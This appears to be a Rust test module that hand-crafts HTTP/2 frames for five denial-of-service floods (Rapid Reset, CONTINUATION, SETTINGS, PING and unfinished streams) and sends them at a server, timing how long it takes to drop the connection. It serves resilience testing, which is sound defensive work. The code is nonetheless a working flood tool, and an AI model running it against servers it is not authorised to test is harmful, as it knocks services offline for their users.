//! HTTP/2 flood attacks for tests. The frames are built by hand, since no HTTP client library sends such frames.
use std::{
    io::{Read, Result, Write},
    net::{Shutdown, SocketAddr, TcpStream},
    sync::mpsc,
    time::{Duration, Instant},
};

/// HTTP/2 flood attack, named after the repeated frame or request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are reset at once.
    RapidReset,
    /// One request whose header block never ends, in CONTINUATION frames.
    Continuation,
    /// SETTINGS frames, each of which has to be acknowledged.
    Settings,
    /// PING frames, each of which has to be answered.
    Ping,
    /// Requests whose bodies are never sent.
    Streams,
}

/// All kinds of flood attacks.
pub const FLOODS: [Flood; 5] = [Flood::RapidReset, Flood::Continuation, Flood::Settings, Flood::Ping, Flood::Streams];

/// HPACK-compressed header block of the request `GET /` with the host `x`.
const HEAD: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 1, b'x'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [head.as_slice(), payload].concat()
}

impl Flood {
    fn begin(self) -> Vec<u8> {
        let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        begin.extend(frame(4, 0, 0, &[]));
        if self == Self::Continuation {
            begin.extend(frame(1, 1, 1, &HEAD));
        }
        begin
    }

    fn next(self, n: u32) -> Vec<u8> {
        let stream = 2 * n + 1;
        match self {
            Self::RapidReset => [frame(1, 5, stream, &HEAD), frame(3, 0, stream, &8_u32.to_be_bytes())].concat(),
            Self::Continuation => {
                let header = [&[0, 1, b'a', 100][..], &[b'v'; 100]].concat();
                frame(9, 0, 1, &header.repeat(10))
            }
            Self::Settings => frame(4, 0, 0, &[]),
            Self::Ping => frame(6, 0, 0, &[7; 8]),
            Self::Streams => frame(1, 4, stream, &HEAD),
        }
    }

    /// Sends `times` frames or requests of the flood as fast as the server reads them, and discards the responses.
    ///
    /// Returns the time until the server closed the connection, or `None` when the connection was still open after `patience`.
    ///
    /// # Errors
    /// Returns an error when the connection cannot be opened.
    pub fn send(self, server: SocketAddr, times: u32, patience: Duration) -> Result<Option<Duration>> {
        let mut stream = TcpStream::connect(server)?;
        stream.set_nodelay(true)?;
        let (mut reading, (closed_tx, closed_rx), started) = (stream.try_clone()?, mpsc::channel(), Instant::now());
        let reader = std::thread::spawn(move || {
            let mut taken = [0; 16 << 10];
            while reading.read(&mut taken).is_ok_and(|read| read > 0) {}
            closed_tx.send(started.elapsed())
        });
        let mut sent = stream.write_all(&self.begin());
        for first in (0..times).step_by(100) {
            let some: Vec<u8> = (first..times.min(first + 100)).flat_map(|n| self.next(n)).collect();
            sent = sent.and_then(|()| stream.write_all(&some));
        }
        let closed = closed_rx.recv_timeout(patience).ok();
        let _ = stream.shutdown(Shutdown::Both);
        let _ = reader.join();
        Ok(closed)
    }
}
